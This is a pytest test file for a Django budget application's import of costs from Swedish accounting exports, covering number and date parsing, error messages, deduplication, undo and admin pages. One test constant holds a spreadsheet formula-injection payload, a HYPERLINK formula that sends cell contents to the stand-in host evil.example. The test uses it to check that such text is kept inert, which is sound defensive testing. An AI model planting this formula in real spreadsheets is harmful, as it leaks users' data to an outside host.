"""Importing actual costs from accounting exports: parse rules, rejections, dedupe, undo."""

import datetime
import io
import zipfile
from decimal import Decimal
from pathlib import Path

from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

import pytest
from openpyxl import Workbook, load_workbook

from governance.budget import cost_import
from governance.budget.cost_import import ImportFileError, ImportRejected
from governance.budget.models import AccountMapping, CostEntry, CostImportBatch
from tests.governance.budget.fixtures import build_small_budget

D = Decimal
HEADINGS = [
    "Datum",
    "Belopp",
    "Kostnadsslag",
    "Arbetsområde",
    "Aktivitet",
    "Finansiär",
    "Verifikation",
    "Text",
]


@pytest.fixture
def small(db):
    return build_small_budget()


def xlsx_file(rows, headings=HEADINGS):
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(headings)
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    buffer.seek(0)
    return buffer


def csv_file(lines, encoding="utf-8", separator=";"):
    text = "\r\n".join([separator.join(HEADINGS), *lines]) + "\r\n"
    return io.BytesIO(text.encode(encoding))


def run_import(small, file_obj, name="kostnader.xlsx", mapping=None):
    if mapping is None:
        with cost_import.open_sheet(file_obj, name) as sheet:
            mapping = cost_import.guess_mapping(sheet.headers)
    return cost_import.import_costs(small.project, file_obj, name, mapping)


def rejection(small, file_obj, name="kostnader.xlsx"):
    """The validation of a rejected file, having checked that nothing was written."""
    entries, batches = CostEntry.objects.count(), CostImportBatch.objects.count()
    with pytest.raises(ImportRejected) as raised:
        run_import(small, file_obj, name)
    assert (CostEntry.objects.count(), CostImportBatch.objects.count()) == (entries, batches)
    return raised.value.validation


GOOD_ROWS = [
    [datetime.datetime(2013, 4, 30), 1234.5, "Personal", "A", None, "Umeå kommun", 2001, "Lön"],
    [datetime.datetime(2013, 5, 2), -300, "Resor", "B", None, None, "2002", "Rättelse"],
    [datetime.datetime(2013, 6, 14), "2 000,25", "Övrigt", "A", None, None, "2003", ""],
]


def test_an_excel_file_is_imported_with_real_dates_and_numbers(small):
    before = CostEntry.objects.count()
    batch, validation = run_import(small, xlsx_file(GOOD_ROWS))
    assert CostEntry.objects.count() == before + 3
    assert (batch.row_count, batch.duplicate_count, batch.total_amount) == (3, 0, D("2934.75"))
    first = CostEntry.objects.get(voucher="2001")
    assert first.date == datetime.date(2013, 4, 30)
    assert first.amount == D("1234.50")
    assert first.financier == small.umea and first.work_area == small.area_a
    assert first.batch == batch and first.description == "Lön"
    assert CostEntry.objects.get(voucher="2002").amount == D("-300.00")
    assert cost_import.saved_mapping(small.project)["voucher"] == "Verifikation"


def test_a_windows_1252_csv_with_semicolons_and_swedish_numbers(small):
    lines = [
        '30.4.2013;"1 234,50";Personal;A;;Örnsköldsviks kommun;V-10;Lön april',
        "2013-05-31;-300,00;Övrigt;B;;;V-11;Återbetalning",
        "1.6.2013;1234.5;Resor;a;;;V-12;Tåg Umeå–Örnsköldsvik".replace("–", "-"),
    ]
    batch, _validation = run_import(small, csv_file(lines, "cp1252"), "export.csv")
    assert batch.row_count == 3
    entry = CostEntry.objects.get(voucher="V-10")
    assert (entry.date, entry.amount, entry.financier) == (
        datetime.date(2013, 4, 30),
        D("1234.50"),
        small.ovik,
    )
    assert CostEntry.objects.get(voucher="V-11").category == small.category["Övrigt"]
    assert CostEntry.objects.get(voucher="V-12").amount == D("1234.50")


def test_a_utf8_csv_with_commas(small):
    lines = [
        '2013-04-30,"1 234,50",Personal,A,,Umeå kommun,V-20,Lön',
        "2013-05-01,99.9,Resor,B,,,V-21,",
    ]
    batch, _validation = run_import(small, csv_file(lines, "utf-8-sig", ","), "export.csv")
    assert batch.row_count == 2
    assert CostEntry.objects.get(voucher="V-21").amount == D("99.90")


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("1 234,50", "1234.50"),
        ("1\u00a0234,50", "1234.50"),
        ("-300,00", "-300.00"),
        ("\u2212300,00", "-300.00"),
        ("1234.5", "1234.50"),
        ("1.234,50", "1234.50"),
        ("1,234.50", "1234.50"),
        ("1 234 567", "1234567.00"),
        ("250 kr", "250.00"),
        ("1 250,00-", "-1250.00"),
        ("1\u00a0250,00-", "-1250.00"),
        ("1250-", "-1250.00"),
        ("250:-", "250.00"),
        (1234.5, "1234.50"),
        (0.1 + 0.2, "0.30"),
        (-42, "-42.00"),
    ],
)
def test_amounts_are_read_the_swedish_way(value, expected):
    assert cost_import.parse_amount(value) == D(expected)


@pytest.mark.parametrize(
    ("value", "message"),
    [
        ("", "Beloppet saknas."),
        ("tusen", "”tusen” är inte ett belopp."),
        ("12,345", "Beloppet 12,345 har fler än två decimaler."),
        ("10000000000000", "Beloppet 10000000000000 är för stort."),
    ],
)
def test_bad_amounts_are_refused_in_swedish(value, message):
    with pytest.raises(ValueError, match=message):
        cost_import.parse_amount(value)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("2013-04-30", datetime.date(2013, 4, 30)),
        ("30.4.2013", datetime.date(2013, 4, 30)),
        ("30/04/2013", datetime.date(2013, 4, 30)),
        ("2013-04-30 00:00:00", datetime.date(2013, 4, 30)),
        (datetime.datetime(2013, 4, 30, 0, 0), datetime.date(2013, 4, 30)),
        (41394, datetime.date(2013, 4, 30)),
        ("20130224", datetime.date(2013, 2, 24)),
        (20130224, datetime.date(2013, 2, 24)),
        (20130224.0, datetime.date(2013, 2, 24)),
    ],
)
def test_dates_are_read_in_the_usual_forms(value, expected):
    assert cost_import.parse_date(value) == expected


@pytest.mark.parametrize(
    ("value", "message"),
    [
        ("", "Datum saknas."),
        ("30 april", "”30 april” är inte ett datum. Skriv det som 2013-04-30 eller 30.4.2013."),
        ("2013-02-30", "”2013-02-30” är inte ett giltigt datum."),
        ("20130230", "”20130230” är inte ett giltigt datum."),
    ],
)
def test_bad_dates_are_refused_in_swedish(value, message):
    with pytest.raises(ValueError, match=message):
        cost_import.parse_date(value)


def only_error(validation):
    assert validation.error_count == 1, validation.errors
    error = validation.errors[0]
    return error.row, error.column, error.message


def test_a_bad_date_rejects_the_whole_file(small):
    rows = [*GOOD_ROWS, ["31.2.2013", 10, "Personal", "A", None, None, "2004", ""]]
    assert only_error(rejection(small, xlsx_file(rows))) == (
        5,
        "Datum",
        "”31.2.2013” är inte ett giltigt datum.",
    )


def test_a_date_outside_the_project_period_is_refused(small):
    rows = [[datetime.datetime(2012, 12, 31), 10, "Personal", "A", None, None, "1", ""]]
    assert only_error(rejection(small, xlsx_file(rows)))[2] == (
        "Datumet 2012-12-31 ligger utanför projektperioden 2013-01-01 – 2014-12-31."
    )


def test_a_bad_amount_rejects_the_whole_file(small):
    rows = [*GOOD_ROWS, [datetime.datetime(2013, 7, 1), "12 kronor", "Personal", "A"]]
    rows[-1] += [None, None, "2004", ""]
    assert only_error(rejection(small, xlsx_file(rows))) == (
        5,
        "Belopp",
        "”12 kronor” är inte ett belopp.",
    )


def test_an_unknown_category_rejects_the_whole_file(small):
    rows = [[datetime.datetime(2013, 7, 1), 10, "Representation", "A", None, None, "1", ""]]
    row, column, message = only_error(rejection(small, xlsx_file(rows)))
    assert (row, column) == (2, "Kostnadsslag")
    assert message == (
        "Okänt kostnadsslag ”Representation”. Kostnadsslagen är: Personal, Externa tjänster, "
        "Resor, Lokaler, Utrustning, Övrigt."
    )


def test_an_unknown_work_area_rejects_the_whole_file(small):
    rows = [[datetime.datetime(2013, 7, 1), 10, "Personal", "Q", None, None, "1", ""]]
    assert only_error(rejection(small, xlsx_file(rows))) == (
        2,
        "Arbetsområde",
        "Okänt arbetsområde ”Q”.",
    )


def test_unknown_activity_and_financier_are_refused(small):
    rows = [[datetime.datetime(2013, 7, 1), 10, "Personal", "A", "A.9", "Luleå kommun", "1", ""]]
    validation = rejection(small, xlsx_file(rows))
    assert [e.message for e in validation.errors] == [
        "Okänd aktivitet ”A.9” i arbetsområde A.",
        "Okänd finansiär ”Luleå kommun”.",
    ]


def test_a_voucher_twice_in_the_file_rejects_it(small):
    rows = [*GOOD_ROWS, [datetime.datetime(2013, 7, 1), 10, "Personal", "A", None, None, 2001, ""]]
    assert only_error(rejection(small, xlsx_file(rows))) == (
        5,
        "Verifikation",
        "Verifikationen ”2001” finns också på rad 2 i filen.",
    )


def test_every_error_is_reported_with_its_row_and_column(small):
    rows = [
        ["igår", "x", "Personal", "A", None, None, "1", ""],
        [datetime.datetime(2013, 7, 1), 10, "", "", None, None, "", ""],
    ]
    validation = rejection(small, xlsx_file(rows))
    assert [(e.row, e.column) for e in validation.errors] == [
        (2, "Datum"),
        (2, "Belopp"),
        (3, "Kostnadsslag"),
        (3, "Arbetsområde"),
        (3, "Verifikation"),
    ]


def test_a_second_import_of_the_same_file_adds_nothing_and_says_so(small):
    run_import(small, xlsx_file(GOOD_ROWS))
    count = CostEntry.objects.count()
    batch, validation = run_import(small, xlsx_file(GOOD_ROWS))
    assert batch is None
    assert validation.duplicate_count == 3 and validation.entries == []
    assert CostEntry.objects.count() == count
    # A file with one new row adds just that row.
    more = [*GOOD_ROWS, [datetime.datetime(2013, 7, 1), 10, "Personal", "A", None, None, "9", ""]]
    batch, validation = run_import(small, xlsx_file(more))
    assert (batch.row_count, batch.duplicate_count) == (1, 3)


def test_an_import_can_be_undone_as_a_whole(small, project_leader):
    batch, _validation = run_import(small, xlsx_file(GOOD_ROWS))
    before_undo = CostEntry.objects.count()
    assert cost_import.undo_import(batch, project_leader) == 3
    batch.refresh_from_db()
    assert batch.undone_at is not None and batch.undone_by == project_leader
    assert CostEntry.objects.count() == before_undo - 3
    assert CostEntry.objects.filter(voucher="V1").exists()  # entries of others stay
    batch_again, _validation = run_import(small, xlsx_file(GOOD_ROWS))
    assert batch_again.row_count == 3


def test_an_empty_file_is_refused(small):
    for content, name in [(b"", "tom.csv"), (b"\r\n;;\r\n", "tom.csv")]:
        with pytest.raises(ImportFileError, match="Filen är tom."):
            run_import(small, io.BytesIO(content), name)
    with pytest.raises(ImportFileError, match="Filen har rubriker men inga rader."):
        run_import(small, xlsx_file([]))
    assert CostEntry.objects.count() == 5


def test_files_that_are_not_spreadsheets_are_refused(small):
    png = b"\x89PNG\r\n\x1a\n" + b"\x00" * 100
    with pytest.raises(ImportFileError, match="Filen är inte ett kalkylark"):
        run_import(small, io.BytesIO(png), "bild.png")
    with pytest.raises(ImportFileError, match="Filen är inte ett kalkylark"):
        run_import(small, io.BytesIO(b"%PDF-1.4 hello"), "kostnader.pdf")
    with pytest.raises(ImportFileError, match=r"Gamla Excel-filer \(.xls\)"):
        run_import(small, io.BytesIO(b"\xd0\xcf\x11\xe0" + b"\x00" * 100), "gammal.xls")
    with pytest.raises(ImportFileError, match="kunde inte läsas som en Excel-fil"):
        run_import(small, io.BytesIO(b"PK\x03\x04 not really a zip"), "trasig.xlsx")


def test_a_file_over_20_mb_is_refused():
    big = SimpleUploadedFile("stor.csv", b"x", content_type="text/csv")
    big.size = 20 * 1024 * 1024 + 1
    with pytest.raises(ImportFileError, match="Filen är 20,0 MB. Filer på högst 20 MB"):
        cost_import.check_upload(big)


def test_a_mapping_of_other_headings_is_saved_and_offered_next_time(small):
    headings = ["Bokf.dag", "Summa kr", "Slag", "Omr", "Akt", "Fin", "Ver", "Beskr"]
    fields = ["date", "amount", "category", "work_area", "activity", "financier", "voucher"]
    mapping = dict(zip([*fields, "description"], headings, strict=True))
    batch, _validation = run_import(small, xlsx_file(GOOD_ROWS, headings), mapping=mapping)
    assert batch.row_count == 3
    saved = cost_import.saved_mapping(small.project)
    assert cost_import.guess_mapping(headings, saved) == mapping


def test_an_incomplete_mapping_is_refused(small):
    mapping = {"date": "Datum", "amount": "Datum"}
    validation = cost_import.validate(small.project, xlsx_file(GOOD_ROWS), "k.xlsx", mapping)
    assert not validation.is_valid
    assert "Välj kolumnen för Konto eller den för Kostnadsslag." in validation.mapping_errors
    assert (
        "Välj kolumnen för Arbetsområde, eller ett arbetsområde för alla rader."
        in validation.mapping_errors
    )
    assert "Kolumnen ”Datum” är vald för två fält." in validation.mapping_errors


# Files as accounting systems write them, and text that must never become a formula --------

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Klicka här")'
LEDGER_HEADINGS = [
    "Verifikationsnummer",
    "Bokföringsdatum",
    "Konto",
    "Kostnadsslag",
    "Arbetsområde",
    "Aktivitet",
    "Finansiär",
    "Benämning",
    "Belopp",
]


def ledger_xlsx(rows):
    """An export from an accounting system: blank rows above the table (its print
    layout), the system's headings, and text cells holding whatever the bookkeeper typed."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "Huvudbok"
    sheet.append([])  # the table starts further down, as in the system's print layout
    sheet.append([None, None])
    sheet.append(LEDGER_HEADINGS)
    for row in rows:
        sheet.append(row)
        for cell in sheet[sheet.max_row]:
            if isinstance(cell.value, str):
                cell.data_type = "s"  # text, as the system wrote it, not a formula
    buffer = io.BytesIO()
    workbook.save(buffer)
    buffer.seek(0)
    return buffer


def ledger_row(voucher, text, amount=100.0, day=datetime.datetime(2013, 5, 2)):
    return [voucher, day, 4010, "Resor", "A", None, "Umeå kommun", text, amount]


@pytest.mark.parametrize("description", [HYPERLINK, "=1+1", "@SUM(A1)", "+46 90 16 10 00", "-5"])
def test_text_that_looks_like_a_formula_is_imported_and_exported_as_that_text(small, description):
    from governance.budget import excel

    batch, _validation = run_import(small, ledger_xlsx([ledger_row("L-1", description)]))
    assert CostEntry.objects.get(voucher="L-1", batch=batch).description == description

    content = excel.cost_entries_workbook(CostEntry.objects.filter(batch=batch))

    sheet = load_workbook(io.BytesIO(content)).active
    cell = sheet.cell(row=2, column=8)
    assert sheet.cell(row=1, column=8).value == "Text"
    assert (cell.value, cell.data_type) == (description, "s")
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


def test_a_csv_with_a_formula_in_the_text_exports_it_as_text(small):
    from governance.budget import excel

    lines = ["2013-04-30;100;Personal;A;;;C-1;" + HYPERLINK.replace('"', '""').join('""')]
    batch, _validation = run_import(small, csv_file(lines), "export.csv")
    assert CostEntry.objects.get(voucher="C-1").description == HYPERLINK

    sheet = load_workbook(io.BytesIO(excel.cost_entries_workbook(batch.entries.all()))).active
    assert (sheet["H2"].value, sheet["H2"].data_type) == (HYPERLINK, "s")


def test_a_ledger_with_its_table_further_down_gives_excel_row_numbers(small):
    rows = [
        ledger_row("L-1", "Tåg"),  # row 4
        [None] * 9,  # row 5: blank
        ["", "  ", None],  # row 6: blank too
        ledger_row("L-2", "Hotell", amount="tvåhundra"),  # row 7
        ledger_row("L-3", "Taxi", day="31.2.2013"),  # row 8
    ]
    with cost_import.open_sheet(ledger_xlsx(rows), "huvudbok.xlsx") as sheet:
        assert sheet.header_row == 3
        mapping = cost_import.guess_mapping(sheet.headers)
    assert mapping == {
        "date": "Bokföringsdatum",
        "amount": "Belopp",
        "account": "Konto",
        "category": "Kostnadsslag",
        "work_area": "Arbetsområde",
        "activity": "Aktivitet",
        "financier": "Finansiär",
        "voucher": "Verifikationsnummer",
        "description": "Benämning",
    }
    validation = rejection(small, ledger_xlsx(rows), "huvudbok.xlsx")
    assert validation.row_count == 3
    assert [(e.row, e.column) for e in validation.errors] == [
        (7, "Belopp"),
        (8, "Bokföringsdatum"),
    ]


def test_a_workbook_that_breaks_while_its_rows_are_read_is_refused_with_a_message(small):
    source = zipfile.ZipFile(xlsx_file(GOOD_ROWS * 200))
    broken = io.BytesIO()
    with zipfile.ZipFile(broken, "w") as archive:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = data[: len(data) // 2]  # cut off in the middle of the rows
            archive.writestr(item, data)
    with pytest.raises(ImportFileError, match="kunde inte läsas som en Excel-fil"):
        run_import(small, broken, "trasig.xlsx")
    assert not CostImportBatch.objects.filter(file_name="trasig.xlsx").exists()


# Raw ledgers: the account decides the category ------------------------------------------

LEDGER_CSV = Path(__file__).parent / "files" / "huvudbok-p123-2013.csv"
LEDGER_MAPPING = {
    "date": "Datum",
    "amount": "Belopp",
    "account": "Konto",
    "account_name": "Kontonamn",
    "voucher": "Ver.nr",
    "description": "Text",
}


def map_interest(small):
    AccountMapping.objects.create(
        project=small.project,
        first_account=8400,
        last_account=8499,
        category=small.category["Övrigt"],
    )


def test_the_ledger_fixture_is_windows_1252_with_title_lines_and_sums():
    content = LEDGER_CSV.read_bytes()
    assert "Tåg Umeå–Örnsköldsvik".encode("cp1252") in content
    with pytest.raises(UnicodeDecodeError):
        content.decode("utf-8")


def test_a_raw_ledger_csv_imports_with_no_category_column(small):
    with cost_import.open_sheet(LEDGER_CSV.open("rb"), LEDGER_CSV.name) as sheet:
        assert sheet.header_row == 6  # below the export's title lines
        assert cost_import.guess_mapping(sheet.headers) == LEDGER_MAPPING
    map_interest(small)
    batch, validation = cost_import.import_costs(
        small.project,
        LEDGER_CSV.open("rb"),
        LEDGER_CSV.name,
        LEDGER_MAPPING,
        work_area=small.area_a,
    )
    assert (validation.row_count, validation.balance_rows, validation.income_rows) == (12, 1, 1)
    assert validation.summary_rows == 2  # "Summa konto 5010" and "Totalt"
    assert batch.row_count == 10
    # 12 500 + 12 500 + 1 250 + 349 − 1 250 + 45 000 + 38 000 + 11 939,60 + 12,50 + 37,50
    assert batch.total_amount == D("120338.60")
    entries = {e.voucher: e for e in CostEntry.objects.filter(batch=batch)}
    assert sorted(entries) == [
        "A 12", "A 19", "A 31/1", "A 31/2", "A 44", "A 50", "A 58", "B 7", "L 3/1", "L 3/2"
    ]  # fmt: skip
    assert [
        (entries[v].category.name, entries[v].amount) for v in ("A 12", "A 31/1", "A 31/2")
    ] == [
        ("Lokaler", D("12500.00")),
        ("Resor", D("1250.00")),
        ("Övrigt", D("349.00")),
    ]
    credit = entries["A 44"]
    assert (credit.date, credit.amount, credit.description) == (
        datetime.date(2013, 3, 12),
        D("-1250.00"),
        "Kreditering tåg, fel datum",
    )
    assert entries["L 3/2"].category.name == "Personal"
    assert entries["A 31/1"].description == "Tåg Umeå–Örnsköldsvik"
    assert {e.work_area for e in entries.values()} == {small.area_a}


def test_unmapped_accounts_are_listed_once_each_with_their_rows(small):
    # 300 rows on two accounts without a mapping give two lines, not 300 errors.
    lines = [f"{5010 if n % 2 else 8410};Konto;V-{n};20130224;;;Rad {n};100,00" for n in range(300)]
    content = "Konto;Kontonamn;Verifikation;Datum;Projekt;Ansvar;Text;Belopp\r\n"
    content += "\r\n".join(lines).replace("8410;Konto", "8410;Räntekostnader")
    content = content.replace("5010;Konto", "8890;Övriga bokslutsdispositioner")
    validation = cost_import.validate(
        small.project,
        io.BytesIO(content.encode("cp1252")),
        "huvudbok.csv",
        {**LEDGER_MAPPING, "voucher": "Verifikation"},
        small.area_a,
    )
    assert validation.error_count == 0 and not validation.is_valid
    assert [(a.account, a.name, a.rows) for a in validation.unmapped_accounts] == [
        (8410, "Räntekostnader", 150),
        (8890, "Övriga bokslutsdispositioner", 150),
    ]


def ledger_export_xlsx():
    """An export from Unit4/Agresso as Excel: the report's title and selection above the
    table, dates as 20130224 numbers, amounts as numbers and as text with the minus after,
    a total at the bottom."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "Huvudbok"
    sheet.append(["Huvudboksutdrag"])
    sheet.append(["Urval:", "Projekt P123, period 201301–201312"])
    sheet.append([])
    sheet.append(["Konto", "Kontobenämning", "Verifikationsnummer", "Bokföringsdatum", "Ansvar",
                  "Projekt", "Benämning", "Belopp"])  # fmt: skip
    sheet.append([5410, "Förbrukningsinventarier", 300012, 20130215, "1100", "P123",
                  "Bärbar dator", 8990.0])  # fmt: skip
    sheet.append([2640, "Ingående moms", 300012, 20130215, "1100", "P123", "Moms", 2247.5])
    sheet.append([5831, "Kost och logi", 300020, "20130219", "1100", "P123", "Hotell Umeå",
                  "1 180,00"])  # fmt: skip
    sheet.append([5831, "Kost och logi", 300027, "20130228", "1100", "P123",
                  "Hotell Umeå, kreditering", "1 180,00-"])  # fmt: skip
    sheet.append([6420, "Revisionsarvode", 300031, datetime.datetime(2013, 3, 1), "1100", "P123",
                  "Granskning av lägesrapport", 7500])  # fmt: skip
    sheet.append([None, None, None, None, None, None, "Totalt", 18737.5])
    buffer = io.BytesIO()
    workbook.save(buffer)
    buffer.seek(0)
    return buffer


def test_a_raw_ledger_xlsx_imports_with_no_category_column(small):
    with cost_import.open_sheet(ledger_export_xlsx(), "huvudbok.xlsx") as sheet:
        assert sheet.header_row == 4
        mapping = cost_import.guess_mapping(sheet.headers)
    assert "category" not in mapping and mapping["account"] == "Konto"
    batch, validation = cost_import.import_costs(
        small.project, ledger_export_xlsx(), "huvudbok.xlsx", mapping, work_area=small.area_b
    )
    assert (validation.balance_rows, validation.summary_rows) == (1, 1)
    entries = CostEntry.objects.filter(batch=batch).order_by("voucher")
    assert [(e.voucher, e.date, e.amount, e.category.name) for e in entries] == [
        ("300012", datetime.date(2013, 2, 15), D("8990.00"), "Utrustning"),
        ("300020", datetime.date(2013, 2, 19), D("1180.00"), "Resor"),
        ("300027", datetime.date(2013, 2, 28), D("-1180.00"), "Resor"),
        ("300031", datetime.date(2013, 3, 1), D("7500.00"), "Externa tjänster"),
    ]
    assert batch.total_amount == D("16490.00")


# Through the admin ---------------------------------------------------------------------


def test_a_raw_ledger_through_the_admin_names_its_unmapped_accounts_then_imports(
    small, client, project_leader, django_assert_max_num_queries
):
    client.force_login(project_leader)
    upload = LEDGER_CSV.open("rb")
    response = client.post(
        reverse("budget:import"), {"step": "upload", "project": small.project.pk, "file": upload}
    )
    page = response.content.decode()
    assert "Välj kolumnen för Arbetsområde, eller ett arbetsområde för alla rader." in page
    form = response.context["mapping_form"]
    data = {name: form[name].value() or "" for name in form.fields}
    data.update(token=response.context["token"], default_work_area=small.area_a.pk)

    with django_assert_max_num_queries(30):
        response = client.post(reverse("budget:import"), {**data, "step": "preview"})
    page = response.content.decode()
    assert "1 konto saknar kostnadsslag." in page
    assert '<td>8410</td><td>Räntekostnader</td><td class="amount">2</td>' in page
    assert page.count("Räntekostnader") == 1
    assert "1 rad på ett balanskonto (1xxx–2xxx) tas inte med." in page
    assert "2 summarader (summor, saldon) tas inte med." in page
    assert 'value="confirm"' not in page

    map_interest(small)
    response = client.post(reverse("budget:import"), {**data, "step": "preview"})
    assert "Filen har 12 rader: 10 nya kostnadsposter, totalt 120\u00a0338,60\u00a0kr" in (
        response.content.decode()
    )
    response = client.post(reverse("budget:import"), {**data, "step": "confirm"})
    batch = CostImportBatch.objects.get()
    assert response.url == reverse("cost_import:inspect", args=[batch.pk])
    assert (batch.row_count, batch.total_amount) == (10, D("120338.60"))


def test_the_add_button_of_the_cost_imports_leads_to_the_import_page(
    small, client, project_leader, steering_member
):
    client.force_login(project_leader)
    response = client.get(reverse("cost_import:add") + f"?project={small.project.pk}")
    assert response.status_code == 302
    assert response.url == reverse("budget:import") + f"?project={small.project.pk}"
    response = client.post(reverse("cost_import:add"), {"file_name": "x.xlsx"}, follow=True)
    assert response.status_code == 200
    assert response.redirect_chain[-1][0] == reverse("budget:import")
    assert CostImportBatch.objects.count() == 0
    client.force_login(steering_member)
    assert client.get(reverse("cost_import:add")).status_code == 403


def test_every_entry_point_of_the_cost_imports_answers_a_page(small, client, project_leader):
    batch, _validation = run_import(small, xlsx_file(GOOD_ROWS))
    client.force_login(project_leader)
    for name in ("index", "inspect", "history", "undo"):
        args = [] if name == "index" else [batch.pk]
        assert client.get(reverse(f"cost_import:{name}", args=args)).status_code == 200, name
    page = client.get(reverse("cost_import:inspect", args=[batch.pk])).content.decode()
    assert reverse("cost_import:delete", args=[batch.pk]) not in page
    # An import is not edited or deleted (its entries would block it): it is undone.
    for name in ("edit", "delete"):
        response = client.post(reverse(f"cost_import:{name}", args=[batch.pk]), follow=True)
        assert response.redirect_chain[-1][0] == reverse("cost_import:inspect", args=[batch.pk])
        assert "Ångra den för att ta bort dess kostnadsposter." in response.content.decode()
    assert CostEntry.objects.filter(batch=batch).count() == 3


def test_a_ledger_with_debit_and_credit_columns(small):
    """Visma and Fortnox print the amount of a ledger row as Debet or Kredit."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["Huvudbok 2013-01-01 – 2013-12-31"])
    sheet.append(["Konto", "Benämning", "Vernr", "Datum", "Debet", "Kredit"])
    sheet.append(["5810 Biljetter", "Tåg", "A7", "2013-03-05", "1 250,00", None])
    sheet.append(["5810 Biljetter", "Kreditering", "A9", "2013-03-12", None, "1 250,00"])
    sheet.append(["6550 Konsultarvoden", "Utvärdering", "A12", "2013-04-15", 45000, ""])
    sheet.append(["6550 Konsultarvoden", "Rad utan belopp", "A13", "2013-04-16", None, None])
    buffer = io.BytesIO()
    workbook.save(buffer)
    with cost_import.open_sheet(buffer, "huvudbok.xlsx") as sheet_read:
        mapping = cost_import.guess_mapping(sheet_read.headers)
    assert (mapping["debit"], mapping["credit"], mapping["account"]) == ("Debet", "Kredit", "Konto")
    validation = cost_import.validate(small.project, buffer, "huvudbok.xlsx", mapping, small.area_a)
    assert [(e.row, e.column, e.message) for e in validation.errors] == [
        (6, "Debet", "Beloppet saknas.")
    ]
    assert [(e.voucher, e.amount, e.category.name) for e in validation.entries] == [
        ("A7", D("1250.00"), "Resor"),
        ("A9", D("-1250.00"), "Resor"),
        ("A12", D("45000.00"), "Externa tjänster"),
    ]
    assert validation.account_names[6550] == "Konsultarvoden"


def test_the_cost_entry_list_leads_to_the_import_for_those_who_may_import(
    small, client, project_leader, steering_member
):
    url = reverse("cost_entry:index") + f"?project={small.project.pk}"
    import_link = f'href="{reverse("budget:import")}?project={small.project.pk}"'
    client.force_login(project_leader)
    assert import_link in client.get(url).content.decode()
    client.force_login(steering_member)
    page = client.get(url).content.decode()
    assert "Exportera till Excel" in page and import_link not in page
